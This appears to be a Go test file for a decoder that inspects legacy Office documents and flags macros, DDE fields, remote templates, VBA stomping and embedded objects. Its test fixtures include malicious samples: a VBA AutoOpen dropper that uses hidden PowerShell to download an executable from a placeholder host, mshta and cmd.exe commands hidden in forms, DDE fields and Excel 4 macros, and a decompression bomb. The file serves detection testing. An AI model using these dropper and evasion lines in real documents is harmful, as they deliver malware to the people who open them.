package ole_test

import (
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"maps"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode/utf16"

	"github.com/google/go-cmp/cmp"

	"sluice/inspect"
	"sluice/inspect/child/childtest"
	"sluice/inspect/child/document/cfb/cfbtest"
	"sluice/inspect/child/document/documenttest"
	"sluice/inspect/child/document/ole"
	"sluice/inspect/child/document/vba/vbatest"
	"sluice/internal/shared"
)

var le = binary.LittleEndian

func box(parts ...map[string]string) string {
	all := map[string]string{}
	for _, p := range parts {
		maps.Copy(all, p)
	}
	return string(cfbtest.Build(all))
}

// word is a Word document with a text in one piece.
func word(text string, flags uint16) map[string]string {
	b := make([]byte, 0x400)
	le.PutUint16(b, 0xA5EC)
	le.PutUint16(b[0x0A:], flags|0x0200)
	clx := le.AppendUint32([]byte{2}, 16)
	clx = le.AppendUint32(le.AppendUint32(clx, 0), uint32(len(text)))
	clx = le.AppendUint32(append(clx, 0, 0), 0x400*2|0x40000000)
	clx = append(clx, 0, 0)
	le.PutUint32(b[0x01A6:], uint32(len(clx)))
	return map[string]string{"WordDocument": string(b) + text, "1Table": string(clx)}
}

// record is a record of BIFF.
func record(id uint16, data string) string {
	return string(le.AppendUint16(le.AppendUint16(nil, id), uint16(len(data)))) + data
}

func sheet(hidden, kind byte, name string) string {
	return record(0x85, "\x00\x00\x00\x00"+string([]byte{hidden, kind, byte(len(name)), 0})+name)
}

func formula(tokens string) string {
	return record(0x06, strings.Repeat("\x00", 20)+string(le.AppendUint16(nil, 0))+string(le.AppendUint16(nil, uint16(len(tokens))))+tokens)
}

func str(s string) string { return "\x17" + string([]byte{byte(len(s)), 0}) + s }

// atom is a record of PowerPoint.
func atom(instance, kind uint16, data string) string {
	return string(le.AppendUint32(le.AppendUint16(le.AppendUint16(nil, instance<<4), kind), uint32(len(data)))) + data
}

func wide(s string) string {
	var b []byte
	for _, c := range utf16.Encode([]rune(s)) {
		b = le.AppendUint16(b, c)
	}
	return string(b)
}

func deflate(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	w.Write([]byte(s))
	w.Flush() // PowerPoint doesn't end it
	return string(le.AppendUint32(nil, uint32(len(s)))) + b.String()
}

func native(name, data string) string {
	b := le.AppendUint16(nil, 2)
	b = append(b, name+"\x00C:\\"+name+"\x00\x00\x00\x03\x00"...)
	b = append(le.AppendUint32(b, uint32(len(name)+4)), "C:\\"+name+"\x00"...)
	b = append(le.AppendUint32(b, uint32(len(data))), data...)
	return string(le.AppendUint32(nil, uint32(len(b)))) + string(b)
}

const report = "Sub Total()\r\n  ' Adds the VAT\r\n  Range(\"B1\").Value = Range(\"A1\").Value * 1.19\r\n  MsgBox \"Done \" & Chr(13) & Chr(10) & \"ok\"\r\nEnd Sub\r\n"

// Each carrier stands beside its twin.
func TestCarriersAndTwins(t *testing.T) {
	dropper := "Sub AutoOpen()\r\n  Dim c: c = \"power\" & \"shell -w hidden (New-Object Net.WebClient).DownloadFile('http://drop.example/x.exe')\"\r\n  Call Shell(c, 0)\r\nEnd Sub\r\n"
	doc := word("Dear reader, see the table.\r", 0)
	project := func(m ...vbatest.Module) map[string]string { return vbatest.Streams("Macros", m...) }
	documenttest.Run(t, ole.Decoder{}, []documenttest.Case{
		{Name: "macro that drops", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "NewMacros", Cache: "compiled", Source: dropper})), Want: []string{
			"MACRO_CODE NewMacros", "MACRO_AUTORUN AutoOpen", "CODE_RUNS shell", "CODE_RUNS powershell", "CODE_FETCHES net.webclient", "CODE_FETCHES downloadfile", "CODE_EVADES -w hidden",
			"link script http://drop.example/x.exe"}},
		{Name: "macro that reckons", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "NewMacros", Cache: "compiled", Source: report})), Want: []string{"MACRO_CODE NewMacros"}},
		{Name: "no macro", Type: "ole", Body: box(doc), Clean: true},
		{Name: "stomped", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "NewMacros", Cache: strings.Repeat("p", 900), Source: dropper, Stomped: true})), Want: []string{
			"MACRO_CODE NewMacros", "MACRO_STOMPED NewMacros: no source"}},
		{Name: "stomped but for the attributes", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "NewMacros", Cache: strings.Repeat("p", 9000)})), Want: []string{
			"MACRO_CODE NewMacros", "MACRO_STOMPED NewMacros: 9000 bytes compiled from an empty source"}},
		{Name: "empty module", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "ThisDocument", Cache: strings.Repeat("p", 900)})), Want: []string{"MACRO_CODE ThisDocument"}},
		{Name: "directory of modules is gone", Type: "ole", Body: box(doc, map[string]string{"Macros/VBA/M": "xx" + vbatest.Compress("Attribute VB_Name = \"M\"\r\nSub Document_Open()\r\nShell f\r\nEnd Sub"), "Macros/VBA/dir": "junk"}), Want: []string{
			"MACRO_CODE M", "MACRO_AUTORUN Document_Open", "CODE_RUNS shell"}},
		{Name: "class is reckoned", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "M", Source: "Set a = CreateObject(x & y)\r\n"})), Want: []string{"MACRO_CODE M", "CODE_OBFUSCATED class of an object"}},
		{Name: "class is written", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "M", Source: "Set a = CreateObject(\"Outlook.Application\")\r\n"})), Want: []string{"MACRO_CODE M"}},
		{Name: "form that holds the command", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "M", Source: report}), map[string]string{"Macros/UserForm1/o": "\x00\x01mshta http://drop.example/a.hta\x00"}), Want: []string{
			"MACRO_CODE M", "CODE_RUNS mshta", "link script http://drop.example/a.hta"}},
		{Name: "form for people", Type: "ole", Body: box(doc, project(vbatest.Module{Name: "M", Source: report}), map[string]string{"Macros/UserForm1/o": "\x00\x01Choose the shell colour\x00"}), Want: []string{"MACRO_CODE M"}},

		{Name: "dde field", Type: "ole", Body: box(word("a \x13DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\" \x14x\x15", 0)), Want: []string{
			"DDE_COMMAND c:\\\\windows\\\\system32\\\\cmd.exe \"/k calc\"", "CODE_RUNS cmd.exe"}},
		{Name: "page field", Type: "ole", Body: box(word("a \x13PAGE \\* MERGEFORMAT\x147\x15 \x13HYPERLINK \"https://example.org/\"\x14here\x15", 0)), Want: []string{"link anchor https://example.org/"}},
		{Name: "template from elsewhere", Type: "ole", Body: box(map[string]string{"WordDocument": doc["WordDocument"], "1Table": doc["1Table"] + "\x00http://drop.example/t.dotm\x00"}), Want: []string{
			"REMOTE_TEMPLATE http://drop.example/t.dotm", "link auto http://drop.example/t.dotm"}},
		{Name: "encrypted word", Type: "ole", Body: box(word("secret", 0x0100)), Want: []string{"ENCRYPTED_DOCUMENT Word"}},
		{Name: "encrypted package", Type: "ole", Body: box(map[string]string{"EncryptedPackage": "12345678", "EncryptionInfo": "x"}), Want: []string{"ENCRYPTED_DOCUMENT EncryptedPackage"}},

		{Name: "sheet of macros", Type: "ole", Body: box(map[string]string{"Workbook": record(0x809, "\x00\x06\x05\x00") + sheet(2, 1, "Macro1") + record(0x18, "\x20\x00\x00\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x01") + record(0x0A, "") +
			record(0x809, "\x00\x06\x40\x00") + formula(str("cmd.exe /c start ")+str("http://drop.example/")+"\x08\x42\x01\x6e\x00") + formula("\x1e\x68\x00\x41\x6f\x00\x1e\x74\x00\x41\x6f\x00\x08\x42\x01\x6e\x00") + record(0x0A, "")}), Want: []string{
			"SHEET_MACRO Macro1", "SHEET_HIDDEN very hidden: Macro1", "MACRO_AUTORUN Auto_Open", "CODE_RUNS EXEC", "CODE_RUNS cmd.exe", "link script http://drop.example/"}},
		{Name: "sheet of numbers", Type: "ole", Body: box(map[string]string{"Workbook": record(0x809, "\x00\x06\x05\x00") + sheet(1, 0, "Prices") + record(0x0A, "") + record(0x809, "\x00\x06\x10\x00") + formula(str("a")+str("b")+"\x08\x42\x01\x6e\x00")}), Clean: true},
		{Name: "dde link", Type: "ole", Body: box(map[string]string{"Workbook": record(0x1AE, "\x00\x00"+string(le.AppendUint16(nil, 10))+"\x00cmd\x03/c calc")}), Want: []string{"DDE_COMMAND cmd|/c cal"}},
		{Name: "workbook beside it", Type: "ole", Body: box(map[string]string{"Workbook": record(0x1AE, "\x01\x00"+string(le.AppendUint16(nil, 9))+"\x00\x01book.xls")}), Clean: true},
		{Name: "encrypted workbook", Type: "ole", Body: box(map[string]string{"Workbook": record(0x809, "\x00\x06\x05\x00") + record(0x2F, "\x01\x00\x01\x00") + sheet(0, 1, "x")}), Want: []string{"ENCRYPTED_DOCUMENT Excel, RC4"}},

		{Name: "action of a slide", Type: "ole", Body: box(map[string]string{"PowerPoint Document": atom(0, 4083, "\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x00\x00\x00\x00\x00\x00") + atom(2, 4026, wide("mshta x.hta"))}), Want: []string{"ACTION_RUNS program mshta x.hta", "CODE_RUNS mshta"}},
		{Name: "link of a slide", Type: "ole", Body: box(map[string]string{"PowerPoint Document": atom(0, 4083, "\x00\x00\x00\x00\x00\x00\x00\x00\x04\x00\x00\x00\x00\x00\x00\x00") + atom(1, 4026, wide("https://example.org/a"))}), Want: []string{"link anchor https://example.org/a"}},
		{Name: "project of a presentation", Type: "ole", Body: box(map[string]string{"PowerPoint Document": atom(1, 0x1011, deflate(box(vbatest.Streams("", vbatest.Module{Name: "M", Source: report}))))}), Has: []string{"MACRO_CODE M"}},

		{Name: "package", Type: "ole", Body: box(doc, map[string]string{"ObjectPool/_1/\x01Ole10Native": native("bill.js", "WScript.Echo(1)")}), Want: []string{"EMBEDDED_OBJECT bill.js", "file bill.js js 15"}},
		{Name: "equation", Type: "ole", Body: string(cfbtest.BuildClass(map[string]string{"ObjectPool/_1/Equation Native": "x"}, map[string][16]byte{"ObjectPool/_1": {0x02, 0xCE, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}})), Has: []string{"EQUATION_OBJECT Equation Native"}},
		{Name: "linked object", Type: "ole", Body: box(map[string]string{"\x01Ole": "\x01\x00\x00\x02\x01\x00\x00\x00" + wide("http://drop.example/x.hta")}), Want: []string{"REMOTE_OBJECT http://drop.example/x.hta", "link auto http://drop.example/x.hta"}},
	})
}

func TestText(t *testing.T) {
	r := childtest.One(t, ole.Decoder{}, "a.doc", "ole", []byte(box(word("Dear reader,\rpay the bill.", 0))))
	if got := documenttest.Text(r, inspect.OriginBody); got != "Dear reader,\npay the bill." {
		t.Errorf("%q", got)
	}
	if r.Files[0].Type != inspect.DOC || !r.Files[0].Class.Has(inspect.Document) || r.Files[0].Class.Has(inspect.Macro) {
		t.Errorf("%s, %s", r.Files[0].Type, r.Files[0].Class)
	}
}

// A published suite of inert documents as Office writes them.
func TestSuite(t *testing.T) {
	dir := shared.Dir(t, "suites", "eicar")
	want := map[string][]string{
		"eicar-excel-dde-cmd-powershell-echo.xls":     {"CODE_OBFUSCATED", "CODE_RUNS", "DDE_COMMAND"},
		"eicar-excel-macro-cmd-echo.xls":              {"CODE_RUNS", "MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-excel-macro-msgbox.xls":                {"MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-excel-macro-powershell-echo.xls":       {"CODE_EVADES", "CODE_RUNS", "MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-excel-macro-write-file.xls":            {"CODE_SURVEYS", "CODE_WRITES", "MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-powerpoint-action-macro-msgbox.ppt":    {"ACTION_RUNS", "MACRO_CODE"},
		"eicar-powerpoint-action-powershell-echo.ppt": {"ACTION_RUNS", "CODE_EVADES", "CODE_OBFUSCATED", "CODE_RUNS"},
		"eicar-word-macro-cmd-echo.doc":               {"CODE_RUNS", "MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-word-macro-msgbox.doc":                 {"MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-word-macro-powershell-echo.doc":        {"CODE_EVADES", "CODE_RUNS", "MACRO_AUTORUN", "MACRO_CODE"},
		"eicar-word-macro-write-file.doc":             {"CODE_SURVEYS", "CODE_WRITES", "MACRO_AUTORUN", "MACRO_CODE"},
	}
	for name, kinds := range want {
		b, err := os.ReadFile(filepath.Join(dir, name))
		if err != nil {
			t.Fatal(err)
		}
		var got []string
		for _, f := range childtest.One(t, ole.Decoder{}, name, "ole", b).Facts {
			got = append(got, string(f.Kind))
		}
		slices.Sort(got)
		if d := cmp.Diff(kinds, slices.Compact(got)); d != "" {
			t.Errorf("%s (-want +got):\n%s", name, d)
		}
	}
}

// Files that want to keep us busy end in a bound.
func TestHostile(t *testing.T) {
	many := func(n int, name string, body string) string {
		m := map[string]string{}
		for i := range n {
			m[fmt.Sprintf("s%d/%s", i, name)] = body
		}
		return box(m)
	}
	bomb := deflate(string(make([]byte, 32<<20)))
	for name, body := range map[string]string{
		"documents":          many(5000, "WordDocument", word("x", 0)["WordDocument"][:64]),
		"projects":           many(5000, "VBA/dir", "x"),
		"modules":            box(map[string]string{"VBA/dir": vbatest.Compress(strings.Repeat("\x19\x00\x01\x00\x00\x00a\x31\x00\x04\x00\x00\x00\x00\x00\x00\x00", 5000)), "VBA/a": vbatest.Compress(strings.Repeat("Shell x\n", 50_000))}),
		"records":            box(map[string]string{"Workbook": strings.Repeat(record(0x0A, ""), 500_000)}),
		"formulas":           box(map[string]string{"Workbook": record(0x809, "\x00\x06\x40\x00") + strings.Repeat(formula(strings.Repeat(str("abc"), 1000)+strings.Repeat("\x08", 2000)), 300)}),
		"atoms":              box(map[string]string{"PowerPoint Document": strings.Repeat(atom(0, 4083, "\x00\x00\x00\x00\x00\x00\x00\x00\x02"), 200_000)}),
		"bombs in a slide":   box(map[string]string{"PowerPoint Document": strings.Repeat(atom(1, 0x1011, bomb), 20)}),
		"fields":             box(word(strings.Repeat("\x13DDE cmd \x14\x15", 50_000), 0)),
		"fields in fields":   box(word(strings.Repeat("\x13", 500_000), 0)),
		"packages":           many(1000, "\x01Ole10Native", native("a", "b")),
		"text of many sizes": box(word(strings.Repeat("x", 2<<20), 0)),
	} {
		t.Run(name, func(t *testing.T) {
			r := childtest.One(t, ole.Decoder{}, "a.doc", "ole", []byte(body))
			if childtest.Has(r, inspect.DecoderPanic, "") || r.Exhausted.Has(inspect.LimitTime) {
				t.Error(r.Facts, r.Exhausted)
			}
			if r.Took > 4*time.Second {
				t.Errorf("took %s", r.Took)
			}
		})
	}
}

func FuzzOpen(f *testing.F) {
	f.Add([]byte(box(word("a \x13DDE x\x14y\x15", 0), vbatest.Streams("Macros", vbatest.Module{Name: "M", Source: report}))))
	f.Add([]byte(box(map[string]string{"Workbook": sheet(2, 1, "M") + record(0x809, "\x00\x06\x40\x00") + formula(str("a")+"\x42\x01\x6e\x00")})))
	f.Add([]byte(box(map[string]string{"PowerPoint Document": atom(1, 0x1011, deflate("x")) + atom(0, 4083, "123456789"), "\x01Ole10Native": native("a", "b"), "\x01Ole": "\x01\x00\x00\x02\x01\x00\x00\x00http://a.b/"})))
	f.Fuzz(func(t *testing.T, b []byte) { childtest.Bytes(t, ole.Decoder{}, "ole", b) })
}

// The inner parsers get bytes that the box around them would seldom let through.
func FuzzFormula(f *testing.F) {
	f.Add([]byte("\x10\x00" + str("a") + str("b") + "\x08\x42\x01\x6e\x00\x19\x04\x02\x00"))
	f.Fuzz(func(t *testing.T, b []byte) { ole.Formula(b) })
}

func BenchmarkOpen(b *testing.B) {
	body := []byte(box(word(strings.Repeat("Words of a long report. ", 20_000), 0), vbatest.Streams("Macros", vbatest.Module{Name: "M", Source: strings.Repeat(report, 200)})))
	b.SetBytes(int64(len(body)))
	for b.Loop() {
		childtest.One(b, ole.Decoder{}, "a.doc", "ole", body)
	}
}
